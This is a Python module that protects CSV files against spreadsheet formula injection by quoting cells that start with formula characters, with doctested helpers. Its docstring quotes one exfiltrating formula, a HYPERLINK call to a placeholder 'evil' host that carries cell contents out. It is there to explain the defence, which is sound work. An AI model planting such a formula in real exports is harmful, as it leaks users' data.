"""CSV files meant for spreadsheets: cells that a spreadsheet would run as a formula are defused.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets (CSV injection; a tag or stem name such as
``=HYPERLINK("http://evil/?"&A1)`` would run when the file is opened). Following OWASP's
advice, :func:`spreadsheet_safe` prefixes such a *text* cell with a single quote, which the
spreadsheet shows as text. Numbers (``-0.25``) are left alone. Only the CSV files xmtag writes
for people (``attributions.csv``, ``segments.csv``, ``files.csv``, score tables) go through
this; the ``.xmtag`` and Parquet data keep the names exactly.
"""

from __future__ import annotations

from typing import Any

__all__ = [
    "spreadsheet_safe",
    "spreadsheet_safe_frame",
    "spreadsheet_csv",
    "undo_spreadsheet_safe",
    "FORMULA_STARTS",
]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula.

    Examples
    --------
    >>> spreadsheet_safe("=1+2"), spreadsheet_safe("rock"), spreadsheet_safe("-0.5"), spreadsheet_safe(-0.5)
    ("'=1+2", 'rock', '-0.5', -0.5)
    >>> spreadsheet_safe("-drums")
    "'-drums"
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if value[0] in "+-":
        try:
            float(value)
            return value  # a number written as text: not a formula
        except ValueError:
            pass
    return "'" + value


def undo_spreadsheet_safe(value: Any) -> Any:
    """The inverse of :func:`spreadsheet_safe` for a cell read back from such a CSV: a leading
    ``'`` followed by a formula character is removed.

    Examples
    --------
    >>> undo_spreadsheet_safe("'=drums+bass"), undo_spreadsheet_safe("rock"), undo_spreadsheet_safe("'quoted")
    ('=drums+bass', 'rock', "'quoted")
    """
    if isinstance(value, str) and len(value) > 1 and value[0] == "'" and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def spreadsheet_safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells (and column names) are :func:`spreadsheet_safe`.

    Examples
    --------
    >>> import pandas as pd
    >>> spreadsheet_safe_frame(pd.DataFrame({"tag": ["=cmd", "rock"], "value": [-1.0, 2.0]}))
         tag  value
    0  '=cmd   -1.0
    1   rock    2.0
    """
    import pandas as pd

    out = frame.copy()
    for col in out.columns:
        dtype = out[col].dtype
        if (
            pd.api.types.is_object_dtype(dtype)
            or pd.api.types.is_string_dtype(dtype)
            or isinstance(dtype, pd.CategoricalDtype)
        ):
            out[col] = out[col].astype(object).map(spreadsheet_safe)
    out.columns = [spreadsheet_safe(c) for c in out.columns]
    return out


def spreadsheet_csv(frame: Any) -> str:
    """CSV text of a DataFrame for spreadsheets: :func:`spreadsheet_safe_frame`, no index.

    Text cells holding a carriage return are quoted (pandas leaves a lone ``\\r`` unquoted,
    which splits the row for every reader); then all text cells are quoted.

    Examples
    --------
    >>> import pandas as pd
    >>> print(spreadsheet_csv(pd.DataFrame({"tag": ["=1+1", "rock"], "value": [0.5, -0.5]})), end="")
    tag,value
    '=1+1,0.5
    rock,-0.5
    """
    import csv

    safe = spreadsheet_safe_frame(frame)
    has_cr = any(isinstance(v, str) and "\r" in v for col in safe.columns for v in safe[col].tolist())
    return safe.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC if has_cr else csv.QUOTE_MINIMAL)
